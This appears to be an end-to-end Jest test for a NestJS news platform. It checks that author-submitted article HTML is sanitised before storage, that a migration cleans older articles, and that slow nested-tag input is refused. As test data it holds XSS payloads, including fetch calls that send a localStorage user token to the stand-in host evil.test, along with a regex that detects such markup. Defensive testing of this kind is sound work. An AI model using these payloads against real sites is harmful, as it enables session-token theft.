import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import sanitizeHtml from 'sanitize-html';
import { DataSource } from 'typeorm';

import { mysqlDataSourceOptions } from '@app/database';

import { sanitizeArticleHtml } from '../../apps/news/src/authoring/article-html.rules';
import { editorArticleHtml } from '../../apps/news/src/authoring/article-html.stub';
import { NEWS_SCHEMA } from '../../apps/news/src/database/news-schema';

import {
  type ArticleStack,
  IMG,
  seedArticles,
  seedUsers,
  startArticleStack,
} from './support/article-stack';

jest.mock('sanitize-html', () => {
  const actual = jest.requireActual<typeof import('sanitize-html')>('sanitize-html');
  return Object.assign(jest.fn(actual), actual);
});

/** sanitize-html as news' own thread runs it (a worker thread loads the module anew). */
const sanitisedHere = sanitizeHtml as unknown as jest.Mock;

const AUTHOR = '1294287382374383960';
const ARTICLES = '/mp/v1_0/articles';
const MIGRATION = 'SanitizeNewsArticleContent1764450000000';
const PICTURE = `${IMG}Fh3k9`;
const STORED_BEFORE = '1500000000000000901';
const CLEAN_BEFORE = '1500000000000000902';

/** As many editor articles as a JSON body of 1 MiB, the media platform's limit, holds. */
const LONGEST_COPIES = Math.floor(
  2 ** 20 / (Buffer.byteLength(JSON.stringify(editorArticleHtml(PICTURE).sent)) + 1),
);

/**
 * ARTICLE_HTML_TIME_LIMIT_MS here: six times what sanitising the longest editor article takes on
 * this machine now, as a worker's first parse does (0.2 to 0.3 s idle, 2 s at a load average of 12
 * on 2 cores), and 1.5 s at least. Nested tags no editor writes take over 30 times as long.
 */
function timeLimitMs(): number {
  const started = performance.now();
  sanitizeArticleHtml(editorArticleHtml(PICTURE).sent.repeat(LONGEST_COPIES));
  return Math.max(1_500, Math.ceil((performance.now() - started) * 6));
}

/** What an author can send through the publish admin's HTTP API, or any HTTP client. */
const MALICIOUS = [
  '<p onmouseover="fetch(`//evil.test/?t=${localStorage.getItem(\'TOUTIAO_USER\')}`)">正文</p>',
  '<script>fetch("//evil.test/?t=" + localStorage.TOUTIAO_USER)</script>',
  `<img src="${PICTURE}" onerror="alert(1)">`,
  '<img src=x onerror=alert(2)>',
  '<a href="&#106;avascript:alert(3)">链接</a>',
  '<iframe src="https://evil.test/"></iframe>',
  '<style>body{display:none}</style>',
  '<svg onload="alert(4)"><circle r="1"/></svg>',
].join('');
const MALICIOUS_STORED = `<p>正文</p><img src="${PICTURE}" /><a>链接</a>`;

/** No script, handler, script URL or frame in what a reader's page is given. */
function expectHarmless(html: string): void {
  expect(html).not.toMatch(/<script|<iframe|<style|<svg|\son\w+=|javascript:|&#106;/i);
}

describe('article HTML: stored sanitised, so the app serves no author script', () => {
  let stack: ArticleStack;
  let mp: NestFastifyApplication;
  let auth: Record<string, string>;

  const send = async (method: 'POST' | 'PUT', url: string, title: string, content: string) => {
    const reply = await mp.inject({
      method,
      url,
      payload: { title, content, cover: { type: -1, images: [] }, channel_id: 1 },
      headers: auth,
    });
    expect(reply.statusCode).toBe(201);
    return reply.json<{ data: { id: string } }>().data.id;
  };
  const inApp = async (id: string): Promise<string> => {
    const reply = await stack.gateway.inject({ method: 'GET', url: `/app/v1_0/articles/${id}` });
    expect(reply.statusCode).toBe(200);
    return reply.json<{ data: { content: string } }>().data.content;
  };
  const forAuthor = async (id: string) => {
    const reply = await mp.inject({ method: 'GET', url: `${ARTICLES}/${id}`, headers: auth });
    expect(reply.statusCode).toBe(200);
    return reply.json<{ data: { content: string; cover: { type: number; images: string[] } } }>()
      .data;
  };
  const storedContent = async (id: string): Promise<string> =>
    (
      (await stack.sql('SELECT content FROM news_article_content WHERE article_id = ?', [
        id,
      ])) as Array<{ content: string }>
    )[0].content;

  /** Runs the news migration again as the migration Job does: configured by the environment. */
  const runMigrationAgain = async (): Promise<string[]> => {
    const saved = Object.keys(stack.env).map((name) => [name, process.env[name]] as const);
    Object.assign(process.env, stack.env);
    const dataSource = await new DataSource(
      mysqlDataSourceOptions(stack.database.settings, NEWS_SCHEMA),
    ).initialize();
    try {
      await dataSource.query('DELETE FROM migrations_news WHERE name = ?', [MIGRATION]);
      const applied = await dataSource.runMigrations({ transaction: 'each' });
      return applied.map((migration) => migration.name);
    } finally {
      await dataSource.destroy();
      for (const [name, value] of saved) {
        if (value === undefined) delete process.env[name];
        else process.env[name] = value;
      }
    }
  };

  let limitMs: number;

  beforeAll(async () => {
    limitMs = timeLimitMs();
    // A worker's start is counted in the wait, so the wait limit allows for that compile too.
    const waitLimitMs = 20_000;
    stack = await startArticleStack({
      AUTO_APPROVE_AUTHORS: AUTHOR,
      // The sanitising worker, started from the TypeScript sources, compiles them first (ts-node):
      // seconds of a busy machine, beyond the media platform's usual deadline for news.
      GRPC_DEADLINE_MS: waitLimitMs + limitMs + 10_000,
      ARTICLE_HTML_WAIT_LIMIT_MS: waitLimitMs,
      ARTICLE_HTML_TIME_LIMIT_MS: limitMs,
    });
    await seedUsers(stack, [{ id: AUTHOR, name: 'author' }]);
    await stack.sql(
      "INSERT INTO news_channel (channel_id, channel_name, sequence, is_visible, is_default) VALUES (1, 'html', 1, 1, 1)",
    );
    mp = await stack.startMediaPlatform();
    auth = {
      authorization: `Bearer ${await stack.signIn(AUTHOR, { verified: true, scope: 'mp' })}`,
    };
  });

  afterAll(async () => {
    await stack?.close();
  });

  it('serves an approved malicious article to the app without its script, handlers, script URLs or frames', async () => {
    const id = await send('POST', `${ARTICLES}?draft=false`, 'A malicious article', MALICIOUS);
    const content = await inApp(id);
    expect(content).toBe(MALICIOUS_STORED);
    expectHarmless(content);
    expect(await storedContent(id)).toBe(MALICIOUS_STORED);
    // The automatic cover still finds the content's picture, and the author edits what is stored.
    expect(await forAuthor(id)).toEqual(
      expect.objectContaining({ content: MALICIOUS_STORED, cover: { type: 1, images: [PICTURE] } }),
    );
  });

  it('sanitises an edit of an approved article, which the app then serves in place of the cached page', async () => {
    const id = await send('POST', `${ARTICLES}?draft=false`, 'Harmless at first', '<p>正文</p>');
    expect(await inApp(id)).toBe('<p>正文</p>');
    await send('PUT', `${ARTICLES}/${id}?draft=false`, 'Then made malicious', MALICIOUS);
    const content = await inApp(id);
    expect(content).toBe(MALICIOUS_STORED);
    expectHarmless(content);
  });

  it('serves a rich article from the editor as written, only serialised anew', async () => {
    const { sent, stored } = editorArticleHtml(PICTURE);
    const id = await send('POST', `${ARTICLES}?draft=false`, 'A rich editor article', sent);
    expect(await inApp(id)).toBe(stored);
    expect((await forAuthor(id)).cover).toEqual({ type: 1, images: [PICTURE] });
    // Sent again as the author's editor loads it, it is stored byte for byte.
    await send('PUT', `${ARTICLES}/${id}?draft=false`, 'A rich editor article', stored);
    expect(await storedContent(id)).toBe(stored);
    expect(await inApp(id)).toBe(stored);
  });

  it("sanitises an article of the media platform's whole body limit off news' event loop, storing what it would have", async () => {
    const { sent, stored } = editorArticleHtml(PICTURE);
    const copies = LONGEST_COPIES;
    sanitisedHere.mockClear();
    const id = await send(
      'POST',
      `${ARTICLES}?draft=false`,
      'The longest article',
      sent.repeat(copies),
    );
    expect(sanitisedHere.mock.calls.length).toBe(0);
    expect(await storedContent(id)).toBe(stored.repeat(copies));
    // A short one is sanitised in place, where a worker's round trip would cost more than it saves.
    await send('POST', `${ARTICLES}?draft=false`, 'A short article', sent);
    expect(sanitisedHere.mock.calls.length).toBe(1);
  });

  it("refuses an article whose parse overruns news' time limit, keyed by its content, stores nothing, and sanitises the next long one", async () => {
    const count = async () =>
      Number(
        (
          (await stack.sql('SELECT COUNT(*) AS n FROM news_article_content')) as Array<{
            n: string;
          }>
        )[0].n,
      );
    const before = await count();
    // Tags nested as no editor writes them: about 9 s to parse at 1 MiB, where the editor's take 0.2.
    const nested = '<p>a<select><p>b'.repeat(Math.floor((2 ** 20 - 1_024) / 16));
    const started = Date.now();
    const reply = await mp.inject({
      method: 'POST',
      url: `${ARTICLES}?draft=false`,
      payload: {
        title: 'Nested past any editor',
        content: nested,
        cover: { type: -1, images: [] },
        channel_id: 1,
      },
      headers: auth,
    });
    expect({ status: reply.statusCode, body: reply.json<unknown>() }).toEqual({
      status: 400,
      body: { message: { content: 'Invalid content param.' } },
    });
    expect(Date.now() - started).toBeLessThan(limitMs * 2 + 3_000);
    expect(await count()).toBe(before);
    // The overrun worker was stopped; a new one takes the next long article.
    const { sent, stored } = editorArticleHtml(PICTURE);
    const id = await send(
      'POST',
      `${ARTICLES}?draft=false`,
      'A long article after',
      sent.repeat(64),
    );
    expect(await storedContent(id)).toBe(stored.repeat(64));
    expect(await count()).toBe(before + 1);
  });

  it('migrates articles stored before, dropping their cached pages, and leaves clean ones alone', async () => {
    await seedArticles(stack, [
      {
        id: STORED_BEFORE,
        authorId: AUTHOR,
        channelId: 1,
        title: 'Stored as sent',
        status: 2,
        createdAt: '2026-01-02 03:04:05',
        content: MALICIOUS,
      },
      {
        id: CLEAN_BEFORE,
        authorId: AUTHOR,
        channelId: 1,
        title: 'Clean already',
        status: 2,
        createdAt: '2026-01-02 03:04:06',
        content: '<p>干净</p>',
      },
    ]);
    // Read once, so the gateway and the cache Redis hold the page as it was stored.
    expect(await inApp(STORED_BEFORE)).toBe(MALICIOUS);
    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(1);
    expect(await inApp(CLEAN_BEFORE)).toBe('<p>干净</p>');

    expect(await runMigrationAgain()).toEqual([MIGRATION]);
    expect(await storedContent(STORED_BEFORE)).toBe(MALICIOUS_STORED);
    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(0);
    expect(await stack.cache.exists(`art:${CLEAN_BEFORE}:detail`)).toBe(1);
    const content = await inApp(STORED_BEFORE);
    expect(content).toBe(MALICIOUS_STORED);
    expectHarmless(content);
    expect(await storedContent(CLEAN_BEFORE)).toBe('<p>干净</p>');

    // A second run finds nothing to rewrite, so the page cached since stays.
    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(1);
    expect(await runMigrationAgain()).toEqual([MIGRATION]);
    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(1);
    expect(await storedContent(STORED_BEFORE)).toBe(MALICIOUS_STORED);
  });
});
